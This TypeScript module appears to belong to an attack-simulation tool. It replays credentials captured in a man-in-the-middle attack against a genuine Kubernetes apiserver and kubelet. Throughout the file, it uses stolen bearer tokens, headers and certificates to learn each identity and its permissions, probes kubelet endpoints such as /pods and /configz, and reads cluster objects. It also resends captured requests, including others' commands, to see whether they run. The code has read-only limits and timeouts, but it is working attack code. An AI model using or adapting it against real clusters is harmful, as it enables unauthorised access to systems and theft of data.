import type { Endpoint, Host } from '../network/network';
import { readSome } from '../network/read-some';
import { timeLimit } from '../network/time-limit';
import { exchange } from '../network/transport';
import { asksForUpgrade, type HeaderList, headerValue } from '../wire/http-head';
import { readApiRequest } from './apiserver-request';
import { type Credential, credentialName, credentialsIn } from './credentials-in';
import { fieldsIn, isFields, parseFields } from './fields';
import { GenuineEndpoint } from './genuine';
import type { LootBag, LootRequest } from './loot';
import { OpenSockets } from './open-sockets';

/** What one captured credential was good for, as the genuine server itself said. */
export interface Replay {
  /** What it is and where it was found; never the secret itself. */
  readonly credential?: string;
  /** The captured request that was sent again with it; null when there was none that takes one. */
  readonly request: string | null;
  /** Of the answer; 0 when there was none. */
  readonly status: number;
  /** Whom the server takes the bearer for (SelfSubjectReview); null when it does not say. */
  readonly identity: string | null;
  /** What the server says he may do (SelfSubjectRulesReview), or, of a kubelet, which endpoints it opened to him. */
  readonly allowed: readonly string[];
  /** Something that was read with it, and only with it: the request and the beginning of its answer. */
  readonly opened?: string;
  /** Why it could not be used. */
  readonly why?: string;
}

/** A captured request that was sent again as it was, by a machine that has no credential for it. */
export interface Resent {
  readonly request: string;
  /** Of the answer; 0 when there was none. */
  readonly status: number;
  /** The beginning of what was answered. */
  readonly answer: string;
}

/** A token that the server knows nothing of gets 401, one that may not do this 403: with both, nothing was gained. */
export function replayWorked(replay: Replay): boolean {
  return requestWorked(replay) || replay.identity !== null || replay.allowed.length > 0;
}

export function requestWorked({ request, status }: Replay): boolean {
  return request !== null && status >= 200 && status < 300;
}

const REVIEW = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
const NAMESPACES = ['default', 'kube-system'];
/** Of a kubelet, from the harmless to the worst that a GET can open. */
const KUBELET_ENDPOINTS = ['/metrics', '/stats/summary', '/pods', '/configz'];

/** A server can take as long as it likes, and say as much: neither is waited for. */
const MOST_RESENT = 4;
const MOST_READS = 3;
const MOST_ANSWER_BYTES = 1024 * 1024;
const MOST_RULES = 100;
const MOST_CHARACTERS = 1000;
const MOST_SHOWN_CHARACTERS = 160;

export interface ReplayLimits {
  readonly answerMs: number;
  /** For everything together. */
  readonly altogetherMs: number;
}

const patience: ReplayLimits = { answerMs: 5_000, altogetherMs: 20_000 };

export interface ReplayServers {
  readonly genuine: Endpoint;
  /** Whether it is talked to in TLS. */
  readonly tls?: boolean;
  readonly apiserver: Endpoint;
}

/**
 * Goes to the genuine server with what is in the loot, from the attacker's own machine. With each credential it sends a
 * captured request again, then asks the apiserver who it is and what it may do, and reads something harmless; requests
 * that carried no credential are sent again as they were. What it is answered goes into the loot.
 * Never rejects: whatever servers do is an answer.
 */
export async function replayLoot(
  host: Host,
  servers: ReplayServers,
  loot: LootBag,
  limits: ReplayLimits = patience,
): Promise<void> {
  const end = timeLimit(limits.altogetherMs);
  const ask = asker(host, servers, () => timeLimit(limits.answerMs, end));
  for (const [index, credential] of credentialsIn(loot).entries()) {
    if (end.aborted) return;
    loot.replays.push(await replayCredential(ask, servers, credential, loot, `replay-${index}`));
  }
  for (const request of resendable(loot, servers)) {
    if (end.aborted) return;
    loot.resent.push(await resend(ask, request));
  }
  noteKeyless(loot);
}

/** A certificate that was shown in a handshake is nobody's without the key that signed there. */
function noteKeyless(loot: LootBag): void {
  const shown = loot.handshakes.find(
    ({ clientCertificate }) => clientCertificate !== null,
  )?.clientCertificate;
  if (shown === null || shown === undefined) return;
  loot.replays.push({
    credential: cut(`client certificate of ${shown.subject}, without its key`),
    request: null,
    status: 0,
    identity: null,
    allowed: [],
    why: 'whoever shows it must sign the handshake with its key, which never left the client (RFC 8446 section 4.4.3)',
  });
}

async function replayCredential(
  ask: Ask,
  servers: ReplayServers,
  credential: Credential,
  loot: LootBag,
  lane: string,
): Promise<Replay> {
  const { genuine, apiserver } = servers;
  const captured = loot.requests.find(
    ({ method, path, headers }) =>
      method === 'GET' &&
      (carries(headers, credential) || credential.from !== 'a header') &&
      !asksForUpgrade(headers) &&
      // That would never end.
      readApiRequest(path)?.watch !== true,
  );
  const again = captured === undefined ? null : await openedBy(ask, credential, captured.path);
  if (again !== null) {
    loot.keep('down', lane, Buffer.from(again.text));
    loot.noteAnswer(again.status).addText(Buffer.from(again.text));
  }
  // A cookie is for whoever set it.
  const isForApiserver = credential.kind !== 'header' || /^authorization$/i.test(credential.name);
  const identity = isForApiserver
    ? usernameOf(await ask({ method: 'POST', path: REVIEW, credential, body: selfSubjectReview }))
    : null;
  const allowed: string[] = [];
  let opened =
    captured !== undefined && again !== null && isSuccess(again) ? shown(captured.path, again) : null;
  if (!isSame(genuine, apiserver)) {
    for (const path of KUBELET_ENDPOINTS) {
      const answer = await openedBy(ask, credential, path);
      if (answer === null || !isSuccess(answer)) continue;
      allowed.push(`get ${path} of the kubelet`);
      opened ??= shown(path, answer);
    }
  }
  if (identity !== null) {
    for (const namespace of NAMESPACES) {
      const answer = await ask({ method: 'POST', path: RULES, credential, body: rulesReview(namespace) });
      allowed.push(...rulesOf(answer).filter((rule) => !allowed.includes(rule)));
      for (const path of opened === null ? readsOf(answer, namespace) : []) {
        const read = await ask({ method: 'GET', path, credential, body: null });
        if (opened === null && isSuccess(read)) opened = shown(path, read);
      }
    }
  }
  return {
    credential: credentialName(credential),
    request: captured === undefined || again === null ? null : cut(`GET ${captured.path}`),
    status: again?.status ?? 0,
    identity,
    allowed,
    ...(opened === null ? {} : { opened }),
  };
}

function shown(path: string, { text }: Answer): string {
  const begin = text.slice(0, MOST_SHOWN_CHARACTERS).trimEnd();
  return cut(`GET ${path}: ${begin}${text.length > MOST_SHOWN_CHARACTERS ? '…' : ''}`);
}

/** Lists of one, and objects by name, that the rules of a user say he may read. */
function readsOf(answer: Answer, namespace: string): string[] {
  const { resourceRules } = statusIn(answer) as { resourceRules?: unknown };
  if (!isSuccess(answer) || !Array.isArray(resourceRules)) return [];
  const paths = resourceRules.filter(isFields).flatMap((rule) => {
    const groups = textsIn(rule['apiGroups']);
    if (!groups.includes('') && !groups.includes('*')) return [];
    const may = (verb: string): boolean => textsIn(rule['verbs']).some((it) => it === verb || it === '*');
    const names = textsIn(rule['resourceNames']);
    return textsIn(rule['resources'])
      .map((it) => (it === '*' ? 'configmaps' : it))
      .filter((it) => /^[a-z]+$/.test(it))
      .flatMap((resource) => {
        const isClusterWide = /^(?:nodes|namespaces|persistentvolumes)$/.test(resource);
        const base = isClusterWide ? `/api/v1/${resource}` : `/api/v1/namespaces/${namespace}/${resource}`;
        if (may('list') && names.length === 0) return [`${base}?limit=1`];
        return may('get') ? names.map((name) => `${base}/${encodeURIComponent(name)}`) : [];
      });
  });
  return paths.slice(0, MOST_READS);
}

/**
 * What carried no credential of its own, on a path where that may be enough. To an apiserver only questions are sent
 * again, so that nothing is made twice; somebody else's command is, for whether it runs is what there is to know.
 */
function resendable(loot: LootBag, { genuine, apiserver }: ReplayServers): LootRequest[] {
  const toApiserver = isSame(genuine, apiserver);
  const chosen: LootRequest[] = [];
  for (const request of loot.requests) {
    const { method, path, headers } = request;
    const isRead = method === 'GET' || method === 'HEAD';
    const carriesOne = headers.some(([name]) => /^(?:authorization|cookie)$/i.test(name));
    const isWhole = Buffer.byteLength(request.body) === Number(headerValue(headers, 'content-length') ?? 0);
    if (carriesOne || (toApiserver && !isRead) || (!isRead && !isWhole) || !path.startsWith('/')) continue;
    if (readApiRequest(path)?.watch === true || chosen.some((it) => it.method === method && it.path === path))
      continue;
    chosen.push(request);
  }
  return chosen.slice(0, MOST_RESENT);
}

async function resend(ask: Ask, { method, path, headers, body }: LootRequest): Promise<Resent> {
  const upgrade = asksForUpgrade(headers);
  const kept = headers.filter(([name]) => !/^(?:host|content-length|transfer-encoding)$/i.test(name));
  const { status, text } = await ask({
    method,
    path,
    credential: null,
    // An upgrade is answered, and then hung up on: no stream is opened, so nothing is run.
    headers: upgrade ? kept : kept.filter(([name]) => !/^connection$/i.test(name)),
    ...(body === '' ? {} : { text: body }),
  });
  return { request: cut(`${method} ${path}`), status, answer: text.slice(0, MOST_SHOWN_CHARACTERS).trim() };
}

/** What is answered to the credential; null where whoever comes without one is let in too, which says nothing of it. */
async function openedBy(ask: Ask, credential: Credential, path: string): Promise<Answer | null> {
  const answer = await ask({ method: 'GET', path, credential });
  if (!isSuccess(answer)) return answer;
  return isSuccess(await ask({ method: 'GET', path, credential: null })) ? null : answer;
}

function isSame(one: Endpoint, other: Endpoint): boolean {
  return one.port === other.port && one.address === other.address;
}

const selfSubjectReview = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' };

function rulesReview(namespace: string): object {
  return { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace } };
}

function carries(headers: HeaderList, credential: Credential): boolean {
  switch (credential.kind) {
    case 'bearer':
      return headers.some(
        ([name, value]) =>
          name.toLowerCase() === 'authorization' && value.replace(/^bearer +/i, '') === credential.value,
      );
    case 'header':
      return headers.some(([name, value]) => name === credential.name && value === credential.value);
    case 'certificate':
      return true;
  }
}

interface Question {
  readonly method: string;
  readonly path: string;
  readonly credential: Credential | null;
  /** Of a request that is sent again as it was. */
  readonly headers?: HeaderList;
  readonly text?: string;
  /** With one, or with null, the apiserver is asked, and otherwise the genuine endpoint. */
  readonly body?: object | null;
}

interface Answer {
  /** 0 when there was none. */
  readonly status: number;
  readonly text: string;
}

type Ask = (question: Question) => Promise<Answer>;

function isSuccess({ status }: Answer): boolean {
  return status >= 200 && status < 300;
}

function asker(host: Host, { genuine, apiserver, tls = true }: ReplayServers, limit: () => AbortSignal): Ask {
  return async (question) => {
    const { method, path, credential, body } = question;
    const at = body === undefined ? { endpoint: genuine, tls } : { endpoint: apiserver, tls: true };
    const answer = await askServer(host, at, question, limit());
    if (credential !== null) {
      host.timeline.record(host.name, null, 'credential-replayed', { method, path, status: answer.status });
    }
    return answer;
  };
}

async function askServer(
  host: Host,
  at: { readonly endpoint: Endpoint; readonly tls: boolean },
  { method, path, credential, headers = [['Accept', 'application/json']], text, body }: Question,
  signal: AbortSignal,
): Promise<Answer> {
  const held = new OpenSockets();
  const close = (): void => void held.close();
  signal.addEventListener('abort', close, { once: true });
  try {
    const speech = at.tls ? ({ kind: 'tls', alpn: [] } as const) : ({ kind: 'plaintext' } as const);
    const shows = credential?.kind === 'certificate' ? credential : undefined;
    const peer = await new GenuineEndpoint(host, at.endpoint, held, shows).reach(speech, signal);
    if (peer.kind === 'refusal') return { status: 0, text: peer.text };
    const json = body === undefined || body === null ? undefined : JSON.stringify(body);
    const content = json ?? text;
    const sent: (readonly [string, string])[] = [
      ['Host', `${at.endpoint.address}:${at.endpoint.port}`],
      ...headers,
      ...(credential === null ? [] : headersOf(credential)),
      ...(json === undefined ? [] : [['Content-Type', 'application/json'] as const]),
      ...(content === undefined ? [] : [['Content-Length', String(Buffer.byteLength(content))] as const]),
    ];
    const request = {
      method,
      path,
      headers: sent,
      ...(content === undefined ? {} : { body: Buffer.from(content) }),
    };
    const answer = await exchange(peer, request, signal);
    if (answer.kind === 'refusal') return { status: 0, text: answer.text };
    if (answer.kind === 'upgraded') return { status: answer.status, text: '' };
    return { status: answer.status, text: await readSome(answer.body, MOST_ANSWER_BYTES) };
  } finally {
    signal.removeEventListener('abort', close);
    await held.close();
  }
}

function headersOf(credential: Credential): (readonly [string, string])[] {
  switch (credential.kind) {
    case 'bearer':
      return [['Authorization', `Bearer ${credential.value}`]];
    case 'header':
      return [[credential.name, credential.value]];
    case 'certificate':
      return [];
  }
}

function usernameOf(answer: Answer): string | null {
  if (!isSuccess(answer)) return null;
  const { username } = fieldsIn(statusIn(answer), 'userInfo') as { username?: unknown };
  if (typeof username !== 'string' || username === '' || username === 'system:anonymous') return null;
  return cut(username);
}

/** As `kubectl auth can-i --list` puts it together, without what everybody may: the reviews of oneself. */
function rulesOf(answer: Answer): string[] {
  const { resourceRules } = statusIn(answer) as { resourceRules?: unknown };
  if (!isSuccess(answer) || !Array.isArray(resourceRules)) return [];
  return resourceRules
    .filter(isFields)
    .filter((rule) => !textsIn(rule['resources']).every((it) => it.startsWith('selfsubject')))
    .slice(0, MOST_RULES)
    .map((rule) => {
      const names = textsIn(rule['resourceNames']).join(',');
      const verbs = textsIn(rule['verbs']).join(',');
      return cut(`${verbs} ${textsIn(rule['resources']).join(',')}${names === '' ? '' : ` ${names}`}`);
    });
}

function statusIn({ text }: Answer): ReturnType<typeof fieldsIn> {
  return fieldsIn(parseFields(text) ?? {}, 'status');
}

function textsIn(value: unknown): string[] {
  return Array.isArray(value) ? value.filter((it): it is string => typeof it === 'string') : [];
}

function cut(text: string): string {
  return text.length <= MOST_CHARACTERS ? text : `${text.slice(0, MOST_CHARACTERS)}…`;
}
